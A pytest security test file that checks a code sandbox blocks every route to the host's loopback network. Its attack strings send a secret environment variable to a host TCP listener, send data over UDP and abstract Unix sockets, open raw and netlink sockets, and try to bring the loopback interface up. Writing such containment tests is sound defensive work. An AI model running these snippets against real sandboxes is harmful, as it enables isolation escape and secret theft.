"""Reaching out: the loopback listeners of this process must receive nothing, whatever the socket."""

from __future__ import annotations

import pytest

from ncpu.sandbox import Sandbox
from tests.security.conftest import World, attack, contained

UNREACHABLE = (
    "Network is unreachable",
    "Connection refused",
    "No such file or directory",
    "Operation not permitted",
    "Address family not supported",
    "Name or service not known",
    "Temporary failure in name resolution",
    "sandbox:",
)

ATTACKS = [
    pytest.param(
        "import socket\ns = socket.create_connection(('127.0.0.1', W['tcp_port']), timeout=1)\n"
        "s.sendall(os.environ.get(W['secret_name'], 'none').encode())",
        UNREACHABLE,
        id="tcp-to-loopback-listener",
    ),
    pytest.param(
        "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "return s.sendto(b'exfiltrated', ('127.0.0.1', W['udp_port']))",
        UNREACHABLE,
        id="udp-to-loopback-listener",
    ),
    pytest.param(
        "import socket\ns = socket.socket(socket.AF_INET6)\ns.settimeout(1)\nreturn s.connect(('::1', W['tcp_port']))",
        (*UNREACHABLE, "Cannot assign requested address"),
        id="tcp6-to-loopback",
    ),
    pytest.param(
        "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('\\0' + W['abstract'])\ns.sendall(b'hi')",
        UNREACHABLE,
        id="abstract-unix-socket-to-host-service",
    ),
    pytest.param(
        "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect(W['unix_path'])",
        UNREACHABLE,
        id="unix-path-socket",
    ),
    pytest.param(
        "import socket\ns = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)\nreturn s.sendto(b'x', '\\0' + W['abstract'])",
        UNREACHABLE,
        id="abstract-unix-datagram",
    ),
    pytest.param(
        "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)\n"
        "return s.sendto(b'\\x08\\0\\0\\0\\0\\0\\0\\0', ('127.0.0.1', 0))",
        UNREACHABLE,
        id="raw-icmp-socket",
    ),
    pytest.param(
        "import socket\ns = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)\nreturn s", UNREACHABLE, id="af-packet"
    ),
    pytest.param(
        "import socket\ns = socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, 0)\nreturn s.bind((0, 0))",
        UNREACHABLE,
        id="netlink-route",
    ),
    pytest.param("import socket\nreturn socket.if_nameindex()", UNREACHABLE, id="list-interfaces-over-netlink"),
    pytest.param(
        "import socket\nreturn socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)", UNREACHABLE, id="vsock-to-host"
    ),
    pytest.param(
        "import socket, fcntl, struct\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "req = struct.pack('16sh', b'lo', 1 | 0x40)\nfcntl.ioctl(s, 0x8914, req)\n"
        "return socket.create_connection(('127.0.0.1', W['tcp_port']), timeout=1)",
        (*UNREACHABLE, "Permission denied"),
        id="bring-loopback-up-then-connect",
    ),
    pytest.param(
        "import socket\nreturn socket.getaddrinfo('localhost', W['tcp_port'])[0]",
        (*UNREACHABLE, "Try again", "-3", "-2"),
        id="dns-lookup",
    ),
    pytest.param(
        "import urllib.request\nreturn urllib.request.urlopen(f\"http://127.0.0.1:{W['tcp_port']}/\", timeout=1).read()",
        (*UNREACHABLE, "urlopen error"),
        id="http-to-loopback",
    ),
]


@pytest.mark.parametrize(("body", "reasons"), ATTACKS)
def test_nothing_reaches_the_host_network(box: Sandbox, world: World, body: str, reasons: tuple[str, ...]) -> None:
    contained(box, world, attack(body, world), reasons=reasons)
